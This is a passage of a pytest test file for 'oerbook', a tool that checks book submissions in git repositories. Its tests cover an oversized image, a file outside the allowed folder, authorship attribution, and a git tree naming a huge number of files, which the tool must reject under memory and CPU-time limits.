    Image.new("RGB", (9400, 9400)).save(picture, "PNG", compress_level=1)
    files = {"chapters/60-huge.md": "# Huge\n\n![A wide field](huge.png)\n", "chapters/huge.png": picture.getvalue()}
    found = judged(tmp_path, files, Limits(memory_bytes=450_000_000), 0)
    assert ("image-corrupt", "chapters/60-huge.md") in found


def test_a_book_in_a_subfolder_of_its_repository_is_checked(tmp_path: Path) -> None:
    root = tmp_path / "repository"
    begin(root, {f"docs/{name}": content for name, content in BASE.items()})
    commit(root, "cy", {"docs/chapters/05-mine.md": f"# Mine\n\n{WORDS}\n", "top.txt": "x"}, "Cy")
    git(root, "symbolic-ref", "HEAD", "refs/heads/cy")
    (root / "docs/chapters").mkdir(parents=True)
    ran = oerbook("check", "--base", "main", "--format", "json", "-C", root / "docs")
    assert [(f["code"], f["path"]) for f in ran.report["findings"]] == [
        ("path-not-allowed", "../top.txt"),
        ("contributor-file-missing", "contributors"),
    ]


def test_changes_on_the_main_branch_are_not_attributed_to_a_submission(tmp_path: Path) -> None:
    root = tmp_path / "book"
    begin(root, BASE)
    commit(root, "cy", {"chapters/05-mine.md": f"# Mine\n\n{WORDS}\n"}, "Cy")
    commit(root, "main", {"chapters/index.md": INDEX.replace("2026-01-02", "2026-02-03")}, "Ada Lee")
    git(root, "symbolic-ref", "HEAD", "refs/heads/cy")
    ran = oerbook("check", "--base", "main", "--format", "json", "-C", root)
    assert ran.code == 0
    assert {f["code"] for f in ran.report["findings"]} == {"contributor-file-missing"}


def test_a_work_reused_keeps_its_authors(tmp_path: Path) -> None:
    root = tmp_path / "book"
    begin(root, BASE)
    bent = BASE["chapters/02-water.md"].replace("title: Rivers", "title: Rivers\n    authors: Eve")
    commit(root, "cy", {"chapters/02-water.md": bent}, "Cy")
    git(root, "symbolic-ref", "HEAD", "refs/heads/cy")
    assert oerbook("check", "--base", "main", "--format", "json", "-C", root).findings("source-removed")


@pytest.mark.parametrize("where", ["at the end", "on the way", "in a merge"])
def test_a_few_objects_that_name_a_billion_files_are_not_read(
    tmp_path: Path, where: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "book"
    begin(root, BASE)
    side = commit(root, "side", {"chapters/03-side.md": "# Side\n\nText.\n"}, "Eve")
    above = ["-p", "main", *(["-p", side] if where == "in a merge" else [])]
    head = git(root, "commit-tree", heavy(root), *above, "-m", "x", **WHO)
    counting = ["timeout", "2", "git", "ls-tree", "-r", head]
    assert subprocess.run(counting, cwd=root, stdout=subprocess.DEVNULL).returncode == 124  # git alone goes on and on
    if where != "at the end":
        head = git(root, "commit-tree", f"{side}^{{tree}}", "-p", head, "-m", "x", **WHO)
    monkeypatch.setattr(adapter, "GIT_CPU_LIMIT_S", 2)
    found = review(root, tmp_path / "out", ReviewRequest("main", head), ProgressBars(quiet=True))
    assert [f.code for f in found.new] == ["submission-unreadable"]
    why = "more files than a book can have" if where == "at the end" else "git needed more than 2 seconds of CPU time"
    assert why in found.new[0].message
